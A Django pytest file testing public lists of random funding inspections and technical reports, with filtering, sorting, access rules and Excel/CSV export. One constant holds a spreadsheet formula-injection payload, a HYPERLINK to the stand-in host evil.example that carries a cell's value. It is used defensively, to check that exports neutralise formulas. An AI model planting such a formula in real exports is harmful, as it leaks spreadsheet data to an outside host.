"""The random inspections and the tech reports as lists (issue 11): filter, sort, page and
export to Excel and CSV; public as before, for everyone the same rows, the pools never read."""

from __future__ import annotations

import datetime

import pytest
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.utils import timezone

from funding.states import ProjectStatus as S
from oversight.models import InspectionDraw, InspectionResult, TechReport
from tests.lists_support import (
    accepted_with_report,
    column,
    copies,
    csv_rows,
    statements,
    xlsx_rows,
)
from tests.pages_support import text
from workflows import demo

pytestmark = pytest.mark.django_db
TODAY = timezone.localdate()
EVIL = '=HYPERLINK("http://evil.example/?x="&A2,"点击")'
FORMULA_STARTS = ("=", "+", "-", "@")
INSPECTIONS = "/inspections/"
REPORTS = "/reports/"


def rows_of(response, kind: str) -> list[list]:
    return xlsx_rows(response) if kind == "xlsx" else csv_rows(response)


def text_cells(rows: list[list]) -> list[str]:
    return [cell for row in rows[1:] for cell in row if isinstance(cell, str)]


# --- random inspections ------------------------------------------------------------------


def draw(county, seed: str, projects, inspectors, results=(), year: int | None = None):
    made = InspectionDraw.objects.create(
        seed=seed,
        population=[p.pk for p in projects] + [10**6],
        pool_size=len(projects) + 1,
        inspector_pool=[u.pk for u in inspectors],
        drawn_by=county.users["staff"],
    )
    made.projects.set(projects)
    made.inspectors.set(inspectors)
    for project in results:
        InspectionResult.objects.create(
            draw=made,
            project=project,
            conclusion="compliant",
            finding="账实相符。",
            recorded_by=inspectors[0],
        )
    if year:
        drawn_at = timezone.now().replace(year=year, month=3, day=1)
        InspectionDraw.objects.filter(pk=made.pk).update(drawn_at=drawn_at)
    return made


@pytest.fixture
def draws(county):
    """This year's draw with all its results in, last year's with one of two missing."""
    rice = demo.draft_project(county, "applicant", "水稻病虫害监测", "300000")
    gear = demo.draft_project(county, "applicant2", "智能装备控制器", "150000")
    u = county.users
    done = draw(county, "种子-今年", [rice], [u["expert1"]], results=[rice])
    open_ = draw(
        county,
        "种子-去年",
        [rice, gear],
        [u["expert2"], u["expert3"]],
        results=[gear],
        year=TODAY.year - 1,
    )
    return done, open_


def seeds(client, **query) -> list[str]:
    return column(csv_rows(client.get(INSPECTIONS, {**query, "export": "csv"})), "Seed")


@pytest.mark.parametrize("who", [None, "applicant", "expert1", "staff"])
def test_every_draw_is_public_and_exported_the_same_for_everyone(client_en, county, draws, who):
    if who:
        client_en.force_login(county.users[who])
    page = text(client_en.get(INSPECTIONS))
    assert "Showing 1–2 of 2" in page and "种子-今年" in page and "种子-去年" in page
    assert sorted(seeds(client_en)) == ["种子-今年", "种子-去年"]
    rows = xlsx_rows(client_en.get(INSPECTIONS, {"export": "xlsx"}))
    assert column(rows, "Projects drawn")[0] == "水稻病虫害监测"
    assert set(column(rows, "Inspectors drawn")) == {"周教授", "吴研究员、郑高工"}
    assert column(rows, "Results recorded") == ["1 / 1", "1 / 2"]
    # Only staff draw.
    assert ('data-testid="draw-form"' in client_en.get(INSPECTIONS).content.decode()) == (
        who == "staff"
    )


def test_inspections_filter_by_year_state_inspector_and_search(client_en, county, draws):
    u = county.users
    assert seeds(client_en, year=TODAY.year - 1) == ["种子-去年"]
    assert seeds(client_en, state="open") == ["种子-去年"]
    assert seeds(client_en, state="complete") == ["种子-今年"]
    assert seeds(client_en, inspector=u["expert3"].pk) == ["种子-去年"]
    assert seeds(client_en, q="智能装备") == ["种子-去年"]  # a project drawn
    assert seeds(client_en, q="周教授") == ["种子-今年"]  # an inspector
    assert seeds(client_en, q="今年") == ["种子-今年"]  # the seed
    assert sorted(seeds(client_en, q="水稻")) == ["种子-今年", "种子-去年"]  # once each
    page = text(client_en.get(INSPECTIONS, {"state": "open"}))
    assert "Showing 1–1 of 1" in page and "Results outstanding" in page


def test_inspections_sort_on_the_page_and_in_the_export(client_en, county, draws):
    assert seeds(client_en, sort="pool_size") == ["种子-今年", "种子-去年"]
    assert seeds(client_en, sort="-pool_size") == ["种子-去年", "种子-今年"]
    assert seeds(client_en, sort="state") == ["种子-今年", "种子-去年"]  # complete < open
    page = client_en.get(INSPECTIONS, {"sort": "-pool_size"}).content.decode()
    assert page.index("种子-去年") < page.index("种子-今年")


@pytest.mark.parametrize("kind", ["xlsx", "csv"])
def test_a_seed_like_a_formula_is_exported_as_text(client_en, county, kind):
    project = demo.draft_project(county, "applicant", "@SUM(A1)", "300000")
    draw(county, EVIL, [project], [county.users["expert1"]])
    cells = text_cells(rows_of(client_en.get(INSPECTIONS, {"export": kind}), kind))
    assert "'" + EVIL in cells and "'@SUM(A1)" in cells
    assert not any(cell.startswith(FORMULA_STARTS) for cell in cells)


@pytest.mark.parametrize(
    "query", ["year=abc", "state=closed", "inspector=999999", "inspector=" + "9" * 30, "q=%1b"]
)
def test_a_bad_inspection_filter_says_so_and_shows_no_rows(client_en, county, draws, query):
    response = client_en.get(f"{INSPECTIONS}?{query}")
    assert response.status_code == 200
    page = text(response)
    assert "Correct the filters above" in page and "种子-今年" not in page
    for kind in ("xlsx", "csv"):
        assert client_en.get(f"{INSPECTIONS}?{query}&export={kind}").status_code == 302


def test_staff_draw_here_and_a_refused_draw_keeps_what_was_typed(client_en, county):
    copies(demo.draft_project(county, "applicant", "在研项目", "300000"), 2, status=S.IN_PROGRESS)
    client_en.force_login(county.users["staff"])
    response = client_en.post(INSPECTIONS, {"n_projects": "9", "n_inspectors": "1", "seed": "留"})
    assert response.status_code == 200
    page = response.content.decode()
    assert "Draw between 1 and 2 projects" in page and 'value="留"' in page
    assert not InspectionDraw.objects.exists()
    response = client_en.post(INSPECTIONS, {"n_projects": "1", "n_inspectors": "1", "seed": "s"})
    made = InspectionDraw.objects.get()
    assert response.status_code == 302 and response["Location"] == f"/inspections/{made.pk}/"


def test_only_staff_draw(client_en, county):
    copies(demo.draft_project(county, "applicant", "在研项目", "300000"), 2, status=S.IN_PROGRESS)
    for who in (None, "applicant", "expert1"):
        if who:
            client_en.force_login(county.users[who])
        client_en.post(INSPECTIONS, {"n_projects": "1", "n_inspectors": "1", "seed": "s"})
    assert not InspectionDraw.objects.exists()


@pytest.mark.parametrize("url", [INSPECTIONS, INSPECTIONS + "?export=xlsx"])
def test_the_pools_are_never_read_for_the_page_or_the_export(client_en, county, draws, url):
    with CaptureQueriesContext(connection) as captured:
        response = client_en.get(url)
        assert response.status_code == 200
    assert not any("population" in q["sql"] for q in captured.captured_queries)
    # The draws were read all the same: the pools were left out, not the rows.
    assert "种子-今年" in (text(response) if url == INSPECTIONS else str(xlsx_rows(response)))
    assert not any("inspector_pool" in q["sql"] for q in captured.captured_queries)


@pytest.mark.parametrize("who", [None, "staff"])
def test_the_inspections_make_as_many_statements_with_ten_times_the_draws(client_en, county, who):
    rice = demo.draft_project(county, "applicant", "水稻病虫害监测", "300000")
    experts = [county.users["expert1"], county.users["expert2"]]
    for n in range(3):
        draw(county, f"少{n}", [rice], experts, results=[rice] if n % 2 else ())
    if who:
        client_en.force_login(county.users[who])
    client_en.get(INSPECTIONS)  # the first request after signing in also saves the session
    assert "Showing 1–3 of 3" in text(client_en.get(INSPECTIONS))  # both runs read rows
    few = statements(client_en, INSPECTIONS + "?sort=state")
    for n in range(27):
        draw(county, f"多{n}", [rice], experts, results=[rice] if n % 2 else ())
    assert statements(client_en, INSPECTIONS + "?sort=state") == few


# --- tech reports ------------------------------------------------------------------------


@pytest.fixture
def reports(county):
    """Published: three of the institute's (two in agriculture), one of the enterprise's.
    Not published: one of a project still running, one embargoed for three months."""
    accepted = accepted_with_report(county)
    rice = copies(accepted, 1, field="农业科技")
    tea = copies(accepted, 1, field="茶叶加工")
    enterprise = copies(
        accepted, 1, field="智能制造", applicant_org_id=county.orgs["enterprise"].pk
    )
    running = copies(accepted, 1, status=S.IN_PROGRESS)
    embargoed = copies(accepted, 1)
    TechReport.objects.bulk_create(
        [
            TechReport(project=rice[0], title="稻田灌溉报告", abstract="灌溉。", access="open"),
            TechReport(
                project=tea[0],
                title="茶叶加工报告",
                keywords="茶叶",
                abstract="茶。",
                access="open",
            ),
            TechReport(project=enterprise[0], title="控制器报告", abstract="控制。", access="open"),
            TechReport(project=running[0], title="在研报告", abstract="未验收。", access="open"),
            TechReport(
                project=embargoed[0],
                title="保密工艺报告",
                abstract="保密。",
                access="embargoed",
                embargo_until=TODAY + datetime.timedelta(days=90),
            ),
        ]
    )
    TechReport.objects.filter(title="稻田灌溉报告").update(
        filed_at=timezone.now().replace(year=TODAY.year - 1)
    )
    return accepted


PUBLISHED = {"水稻监测科技报告", "稻田灌溉报告", "茶叶加工报告", "控制器报告"}


def titles(client, **query) -> set[str]:
    return set(column(csv_rows(client.get(REPORTS, {**query, "export": "csv"})), "Title"))


@pytest.mark.parametrize("who", [None, "applicant", "staff", "leader"])
def test_everyone_sees_and_exports_the_published_reports_only(client_en, county, reports, who):
    if who:
        client_en.force_login(county.users[who])
    page = text(client_en.get(REPORTS))
    assert "Showing 1–4 of 4" in page
    assert "在研报告" not in page and "保密工艺报告" not in page
    assert titles(client_en) == PUBLISHED
    rows = xlsx_rows(client_en.get(REPORTS, {"export": "xlsx"}))
    assert set(column(rows, "Title")) == PUBLISHED


def test_reports_filter_by_year_field_organisation_and_search(client_en, county, reports):
    assert titles(client_en, year=TODAY.year - 1) == {"稻田灌溉报告"}
    assert titles(client_en, field="茶叶") == {"茶叶加工报告"}
    assert titles(client_en, organisation="智能装备") == {"控制器报告"}
    assert titles(client_en, organisation="东海理工") == set()  # no published report
    assert titles(client_en, q="茶叶") == {"茶叶加工报告"}  # keywords and title
    assert titles(client_en, q="监测 水稻") == {"水稻监测科技报告"}  # every word
    assert titles(client_en, q="灌溉") == {"稻田灌溉报告"}
    # The filters name no organisation: only the rows do, those with a published report.
    page = client_en.get(REPORTS).content.decode()
    assert "浙东智能装备有限公司" in page and "东海理工大学" not in page


def test_reports_sort_on_the_page_and_in_the_export(client_en, county, reports):
    rows = xlsx_rows(client_en.get(REPORTS, {"sort": "title", "export": "xlsx"}))
    assert column(rows, "Title") == sorted(PUBLISHED)
    rows = xlsx_rows(client_en.get(REPORTS, {"sort": "-title", "export": "xlsx"}))
    assert column(rows, "Title") == sorted(PUBLISHED, reverse=True)
    # Only what an index holds sorts: no link to sort by a column through a join.
    page = client_en.get(REPORTS).content.decode()
    assert "?sort=title" in page and "?sort=organisation" not in page
    rows = csv_rows(client_en.get(REPORTS, {"sort": "-filed_at", "export": "csv"}))
    assert column(rows, "Title")[-1] == "稻田灌溉报告"  # filed last year
    rows = csv_rows(client_en.get(REPORTS, {"sort": "filed_at", "export": "csv"}))
    assert column(rows, "Title")[0] == "稻田灌溉报告"


@pytest.mark.parametrize("kind", ["xlsx", "csv"])
def test_a_report_title_like_a_formula_is_exported_as_text(client_en, county, reports, kind):
    TechReport.objects.filter(project=reports).update(title=EVIL, keywords="+1", abstract="-x")
    cells = text_cells(rows_of(client_en.get(REPORTS, {"export": kind}), kind))
    assert "'" + EVIL in cells and "'+1" in cells and "'-x" in cells
    assert not any(cell.startswith(FORMULA_STARTS) for cell in cells)


@pytest.mark.parametrize(
    "query",
    ["year=abc", "organisation=%00", "q=" + "x" * 500, "q=%00", "field=%1b"],
)
def test_a_bad_report_filter_says_so_and_shows_no_rows(client_en, county, reports, query):
    response = client_en.get(f"{REPORTS}?{query}")
    assert response.status_code == 200
    page = text(response)
    assert "Correct the filters above" in page and "茶叶加工报告" not in page
    for kind in ("xlsx", "csv"):
        assert client_en.get(f"{REPORTS}?{query}&export={kind}").status_code == 302


@pytest.mark.parametrize("who", [None, "staff"])
def test_the_reports_make_as_many_statements_with_ten_times_the_reports(client_en, county, who):
    accepted = demo.advance(
        county, demo.draft_project(county, "applicant", "水稻病虫害监测", "300000"), S.ACCEPTED
    )

    def more(n: int) -> None:
        TechReport.objects.bulk_create(
            TechReport(project=p, title=f"报告{p.pk}", abstract="摘要。", access="open")
            for p in copies(accepted, n)
        )

    more(3)
    if who:
        client_en.force_login(county.users[who])
    client_en.get(REPORTS)  # the first request after signing in also saves the session
    assert "Showing 1–4 of 4" in text(client_en.get(REPORTS))  # both runs read rows
    few = statements(client_en, REPORTS + "?sort=title")
    more(27)
    assert statements(client_en, REPORTS + "?sort=title") == few
    assert "of 31" in text(client_en.get(REPORTS))


@pytest.mark.parametrize("url", [INSPECTIONS, REPORTS])
def test_the_address_cannot_set_the_page_size(client_en, county, draws, reports, url):
    page = text(client_en.get(url, {"per_page": 1}))
    assert "Showing 1–2 of 2" in page or "Showing 1–4 of 4" in page
    assert {INSPECTIONS: "Showing 1–2 of 2", REPORTS: "Showing 1–4 of 4"}[url] in page
